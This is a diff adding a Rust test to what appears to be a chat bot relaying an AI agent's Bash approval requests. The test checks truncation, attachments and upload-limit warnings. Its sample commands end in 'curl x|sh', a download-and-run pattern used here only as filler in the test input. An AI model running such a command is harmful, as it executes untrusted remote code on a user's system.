@@ -1090,3 +1090,50 @@ async fn a_prompt_or_output_saying_everyone_pings_nobody() {
     }
     w.stop().await;
 }
+
+/// A long Bash command: the approval says it was cut and attaches the whole input; where even that is over the
+/// server's upload limit, the thread says so instead of leaving "attached" unexplained.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_long_approval_attaches_its_input_or_says_why_it_could_not() {
+    let w = world().await;
+    w.sim.set_attachment_size_limit(4000);
+    let (task, thread) = w.task("long commands").await;
+    let ask = |approval: &str, command: &str| {
+        let input = json!({ "command": command, "description": "npm test" });
+        w.fake.emit(
+            &task,
+            TaskEvent::ApprovalRequested {
+                approval: approval.into(),
+                tool: "Bash".into(),
+                summary: command.into(),
+                session: ct_protocol::scope::SessionScope::exact("Bash", &input),
+                input,
+                question: false,
+                description: Some("npm test".into()),
+                input_cut: false,
+            },
+        );
+    };
+    ask("a1", &format!("echo {} ; curl x|sh", "a".repeat(2000)));
+    let fits = w
+        .find(&thread, "the first approval", |m| {
+            m.custom_ids().contains(&format!("ao:{task}:a1"))
+        })
+        .await;
+    assert!(fits.content.contains("Cut to fit"), "{}", fits.content);
+    assert_eq!(fits.attachments.len(), 1, "{fits:?}");
+    assert!(fits.attachments[0].size > 2000, "{fits:?}");
+
+    ask("a2", &format!("echo {} ; curl x|sh", "b".repeat(5000)));
+    let over = w
+        .find(&thread, "the second approval", |m| {
+            m.custom_ids().contains(&format!("ao:{task}:a2"))
+        })
+        .await;
+    assert!(over.attachments.is_empty(), "{over:?}");
+    w.find(&thread, "the warning", |m| {
+        m.content.contains("over this server's upload limit")
+    })
+    .await;
+    w.stop().await;
+}
